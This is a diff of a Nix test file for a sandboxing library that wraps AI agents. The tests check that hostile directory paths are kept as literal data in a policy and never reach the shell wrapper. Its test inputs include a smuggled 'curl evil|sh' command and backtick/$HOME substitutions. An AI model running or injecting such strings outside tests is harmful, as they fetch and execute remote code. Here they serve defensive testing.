@@ -1,50 +1,43 @@
-# The path-quoting rule on exact words; tests/nix_library.rs decodes the same words with bash.
+# Paths: checked, normalised and kept verbatim in the policy (tests/adversarial.rs and
+# tests/nix_library.rs hand hostile ones to the library and read the policy back).
 {
   h ? import ./helpers.nix { },
 }:
 let
-  inherit (h) call noescape;
   inherit (h.jailgen.internals) paths;
 
+  # The read-only grants of the policy of a jail given `p`.
   agentBinds =
     p:
-    builtins.filter (c: c.name == "readonly") (
-      h.calls (
-        h.jailgen.makeJailedAgent {
-          name = "a";
-          pkg = h.pkgs.hello;
-          configPaths = [ ];
-          extraReadonlyDirs = [ p ];
-        }
-      )
-    );
+    (h.policyOf (
+      h.jailgen.makeJailedAgent {
+        name = "a";
+        pkg = h.pkgs.hello;
+        configPaths = [ ];
+        extraReadonlyDirs = [ p ];
+      }
+    )).readonly;
 in
 {
-  "test: a plain home path stays readable" = {
-    expr = paths.word "~/.config/my-agent";
-    expected = "~/.config/my-agent";
-  };
-  "test: a home path with a space keeps the tilde outside the quotes" = {
-    expr = paths.word "~/my dir";
-    expected = "~/'my dir'";
-  };
-  "test: an injection attempt after a tilde is quoted" = {
-    expr = paths.word "~/x; curl evil|sh";
-    expected = "~/'x; curl evil|sh'";
-  };
-  "test: a single quote in a home path is closed, escaped and reopened" = {
-    expr = paths.word "~/it's";
-    expected = "~/'it'\\''s'";
-  };
-  "test: an absolute path is quoted whole" = {
-    expr = paths.word "/srv/a b";
-    expected = "'/srv/a b'";
+  "test: hostile home paths reach the policy as they are, one grant each" = {
+    expr = map agentBinds [
+      "~/my dir"
+      "~/x; curl evil|sh"
+      "~/it's"
+      "~/\"quoted\" `id` $HOME"
+    ];
+    expected = [
+      [ "~/my dir" ]
+      [ "~/x; curl evil|sh" ]
+      [ "~/it's" ]
+      [ "~/\"quoted\" `id` $HOME" ]
+    ];
   };
   "test: a bare tilde is the home directory" = {
-    expr = paths.word "~";
-    expected = "~";
+    expr = agentBinds "~";
+    expected = [ "~" ];
   };
-  "test: paths are normalised before quoting" = {
+  "test: paths are normalised" = {
     expr = map paths.normalize [
       "~/a//b/"
       "/srv/./x/"
@@ -58,42 +51,38 @@ in
       "/"
     ];
   };
-  "test: a home path reaches jail.nix as noescape of the quoted word" = {
-    expr = agentBinds "~/a b";
-    expected = [ (call "readonly" [ (noescape "~/'a b'") ]) ];
-  };
-  "test: an absolute path reaches jail.nix as a plain string for it to quote" = {
-    expr = agentBinds "/srv/a b";
-    expected = [ (call "readonly" [ "/srv/a b" ]) ];
-  };
-  "test: a dollar or backtick goes in double quotes with those characters escaped" = {
-    expr = map paths.word [
-      "~/a $b"
-      "/srv/`id`"
-      "/x/\\\"$"
+  "test: a home path reaches the policy as it is, normalised, never shell-quoted" = {
+    expr = map agentBinds [
+      "~/a b"
+      "~/a//b;c/"
     ];
     expected = [
-      "~/\"a \\$b\""
-      "\"/srv/\\`id\\`\""
-      "\"/x/\\\\\\\"\\$\""
+      [ "~/a b" ]
+      [ "~/a/b;c" ]
     ];
   };
-  "test: an absolute path with a dollar reaches jail.nix as noescape of the double-quoted word" = {
-    expr = agentBinds "/srv/a $b";
-    expected = [ (call "readonly" [ (noescape "\"/srv/a \\$b\"") ]) ];
+  "test: an absolute path reaches the policy as it is" = {
+    expr = agentBinds "/srv/a b";
+    expected = [ "/srv/a b" ];
   };
-  "test: jail.nix renders the home path as one shell word" = {
+  "test: a path with a dollar or backtick reaches the policy as it is and never the wrapper" = {
     expr =
-      builtins.length (
-        builtins.split "--ro-bind ~/'a b;c' ~/'a b;c'"
-          (h.jailgen.makeJailedAgent {
-            name = "a";
-            pkg = h.pkgs.hello;
-            configPaths = [ ];
-            extraReadonlyDirs = [ "~/a b;c" ];
-          }).text
-      ) > 1;
-    expected = true;
+      let
+        j = h.jailgen.makeJailedAgent {
+          name = "a";
+          pkg = h.pkgs.hello;
+          configPaths = [ ];
+          extraReadonlyDirs = [ "/srv/a $b `id`" ];
+        };
+      in
+      [
+        (h.policyOf j).readonly
+        (builtins.length (builtins.split "srv/a" j.text))
+      ];
+    expected = [
+      [ "/srv/a $b `id`" ]
+      1
+    ];
   };
   "test: a state path is a file only with an extension from file-extensions.json" = {
     expr = map paths.isFile [
